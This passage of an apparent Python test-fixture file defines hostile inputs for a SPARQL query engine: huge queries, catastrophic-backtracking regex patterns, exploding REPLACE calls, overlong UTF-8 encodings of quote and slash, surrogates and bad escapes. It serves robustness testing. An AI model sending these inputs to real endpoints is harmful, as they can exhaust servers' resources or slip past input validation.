        "graphs-from": lambda: f"SELECT * {_joined('FROM <http://e/§>', 4_000)} {{ ?s ?p ?o }}",
        "graphs-from-named": lambda: f"ASK {_joined('FROM NAMED <http://e/§>', 2_500)} {{ GRAPH ?g {{ {CUBE} }} }}",
        "described": lambda: f"DESCRIBE {_joined('<http://e/§>', 6_000)}",
        "prefixes": lambda: f"{_joined('PREFIX p§: <http://e/§>', 3_000)} ASK {{}}",
        "bases": lambda: f"BASE <http://e/> {_joined('BASE <a§/>', 6_000)} SELECT (<> AS ?x) {{}}",
        "base-of-steps-up": lambda: f"BASE <http://e/{'a/' * 20_000}> ASK {{ ?s <{'../' * 15_000}> ?o }}",
        "iris-on-a-long-base": lambda: f"BASE <http://e/{'a/' * 20_000}b> ASK {{ {_joined('?s <§> ?o .', 4_000)} }}",
        "iri": lambda: f"ASK {{ <http://e/{'a' * 99_000}> ?p ?o }}",
        "iri-of-dots": lambda: f"BASE <http://e/> ASK {{ <{'./' * 49_000}> ?p ?o }}",
        "prefixed-names": lambda: f"PREFIX p: <http://e/{'a' * 50_000}> ASK {{ {_joined('p: p: p: .', 3_000)} }}",
        "variable": lambda: f"SELECT * {{ ?{'x' * 99_000} ?p ?o }}",
        "text": lambda: f"ASK {{ ?s ?p '{'x' * 99_000}' }}",
        "text-of-escapes": lambda: "ASK { ?s ?p '" + "\\u0041" * 16_000 + "' }",
        "language": lambda: f"ASK {{ ?s ?p 'x'@{'a-' * 49_000}b }}",
        "number": lambda: f"SELECT ({'9' * 99_000} AS ?x) (1.{'0' * 100} AS ?y) {{}}",
        "decimal": lambda: f"SELECT ('{'9' * 90_000}'^^<{_RAISED}> + 1 AS ?x) {{}}",
        "exponent": lambda: f"SELECT (1e{'9' * 90_000} AS ?x) {{}}",
        "comment": lambda: f"ASK {{}} #{'x' * 99_000}",
        "comments": lambda: "#\n" * 49_000 + "ASK {}",
        "spaces": lambda: " " * 99_000 + "ASK {}",
        "dots": lambda: "ASK { ?s ?p a" + "." * 90_000 + " }",
        "semicolons": lambda: "ASK { ?s ?p ?o " + ";" * 19_000 + " }",
        "words": lambda: "ASK { " + "a.a" * 30_000 + " }",
        "quotes": lambda: "ASK { ?s ?p " + "'" * 90_000 + " }",
        "quotes-behind-backslashes": lambda: "ASK { ?s ?p " + "\\'''" * 20_000 + " }",
        "escapes": lambda: "\\u0020" * 16_000 + "ASK {}",
        "backslashes": lambda: "ASK { ?s ?p '" + "\\" * 90_000 + "' }",
    }
)


# Regular expressions.


def _regex(pattern: str, flags: str = "", text: str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!") -> str:
    """Match a pattern against a text that nearly fits it, for each triple."""
    told = f', "{flags}"' if flags else ""
    return f'SELECT (COUNT(*) AS ?n) {{ ?s ?p ?o FILTER(REGEX("{text}", "{pattern}"{told})) }}'


PATTERNS = _table(
    {
        "nested-quantifiers": _regex("^(a+)+$"),
        "nested-stars": _regex("^(((a*)*)*)*$"),
        "nested-alternatives": _regex("^(a|a|aa)+$"),
        "nested-optionals": _regex("^" + "a?" * 500 + "a" * 500 + "$"),
        "dots": _regex("^" + "(.*)" * 300 + "b$"),
        "counted": _regex("(a{1000}){1000}"),
        "counted-deep": _regex("((((a{100}){100}){100}){100}){100}"),
        "counted-huge": _regex("a{999999999}"),
        "counted-beyond": _regex("a{99999999999999999999}"),
        "counted-letters": _regex("(\\\\w{200}){100}", "i"),
        "counted-any-letter": _regex("[\\\\p{L}--a]{900}", "i"),
        "groups": _regex("(" * 20_000 + "a" + ")" * 20_000),
        "groups-within": _regex("(" * 200 + "a" + ")" * 200),
        "groups-never-closed": _regex("(" * 5_000),
        "classes": _regex("[[" * 5_000 + "a" + "]]" * 5_000),
        "alternatives": _regex("|".join(["a" * 8] * 8_000)),
        "back-reference": _regex("(a+)\\\\1+$"),
        "look-ahead": _regex("(?=(a+))*b"),
        "possessive": _regex("(a++)++b"),
        "recursion": _regex("(?R)"),
        "bad-flag": _regex("a", "zzz"),
        "bad-range": _regex("[z-a]"),
        "bad-escape": _regex("\\\\"),
        "quoted-flag": _regex("(" * 1_000, "q"),
        "long-text": _regex("(.*?)*?b", "s", "a" * 90_000),
        "pattern-of-each-row": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), STR(?f), 'i')) }",
        "pattern-of-two-rows": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f "
        "FILTER(REGEX('x', CONCAT('(\\\\w{50}){20}', STR(RAND())))) }",
        "pattern-that-grows": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c "
        + " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" if n else "BIND('(a|b)*' AS ?x1)" for n in range(24))
        + " FILTER(REGEX('ab', ?x24)) }",
        "replace-groups": "SELECT (SUM(STRLEN(REPLACE(STR(?c), '(.*)', '"
        + "$1" * 20_000
        + "'))) AS ?n) { ?a ?b ?c . ?d ?e ?f }",
        "replace-empty": "SELECT (REPLACE('" + "a" * 40_000 + "', '', '" + "b" * 40_000 + "') AS ?x) {}",
        "replace-every-letter": "SELECT (REPLACE('" + "a" * 45_000 + "', 'a', '" + "b" * 45_000 + "') AS ?x) {}",
    }
)


# Bytes that are no text.

_ASK = b"ASK { ?s ?p '%s' }"

BAD_BYTES: Mapping[str, bytes] = MappingProxyType(
    {
        "lone-continuation": b"\x80",
        "cut-off-letter": b"\xc3",
        "cut-off-sign": b"\xf0\x9f\x98",
        "overlong-slash": b"\xc0\xaf",
        "overlong-quote": b"\xc0\xa7",
        "overlong-nul": b"\xc0\x80",
        "overlong-in-three": b"\xe0\x80\xa7",
        "surrogate": b"\xed\xa0\x80",
        "surrogate-pair": b"\xed\xa0\xbd\xed\xb8\x80",
        "beyond-unicode": b"\xf4\x90\x80\x80",
        "five-bytes": b"\xf8\x88\x80\x80\x80",
        "never-in-utf-8": b"\xfe\xff",
        "latin-1": "İzmir için é".encode("latin-1", "replace"),
        "nul": b"\x00",
        "nuls": b"\x00" * 10_000,
        "utf-16": "ASK {}".encode("utf-16"),
        "utf-16-le": "ASK {}".encode("utf-16-le"),
        "utf-32": "ASK {}".encode("utf-32"),
        "utf-7": b"ASK { +2D3eAA- }",
        "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    }
)
"""What is in the middle of a query, and must not be let in where it is no UTF-8."""

ESCAPED_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "surrogate": "ASK { ?s ?p '\\uD800' }",
        "surrogate-pair": "ASK { ?s ?p '\\uD83D\\uDE00' }",
        "surrogate-in-eight": "ASK { ?s ?p '\\U0000DFFF' }",
        "surrogate-in-a-name": "ASK { ?s <http://e/\\uD800> ?o }",
        "beyond-unicode": "ASK { ?s ?p '\\U00110000' }",
        "far-beyond-unicode": "ASK { ?s ?p '\\UFFFFFFFF' }",
        "nul": "ASK { ?s ?p '\\u0000' }",
        "nul-in-a-name": "ASK { ?s <http://e/\\u0000> ?o }",
        "cut-off": "ASK { ?s ?p '\\u00' }",
        "cut-off-at-the-end": "ASK {} \\u",
        "no-hexadecimal": "ASK { ?s ?p '\\uZZZZ' }",
        "space-in-a-name": "ASK { ?s <http://e/\\u0020> ?o }",
        "line-end-in-a-text": "ASK { ?s ?p '\\u000A' }",
        "quote-in-a-text": "ASK { ?s ?p '\\u0027' }",
        "byte-order-mark": "\ufeffASK {}",
        "byte-order-mark-inside": "ASK { \ufeff }",
        "noncharacters": "ASK { ?s ?p '\ufffe\uffff\U0010ffff' }",
        "right-to-left": "ASK { ?s ?p '\u202e\u2066' }",
        "combining": "ASK { ?s ?p 'e" + "\u0301" * 30_000 + "' }",
        "controls": "ASK { ?s ?p '" + "".join(map(chr, [*range(1, 10), 11, 12, *range(14, 32), 127])) + "' }",
    }
)
"""Texts that are odd only once their escapes are read."""


def bytes_in_a_query() -> Iterable[tuple[str, bytes]]:
    """Return queries with bad bytes in the middle, and some that are nothing else."""
    yield from ((f"{name}-inside", _ASK % content) for name, content in BAD_BYTES.items())
    yield from ((f"{name}-alone", content) for name, content in BAD_BYTES.items())
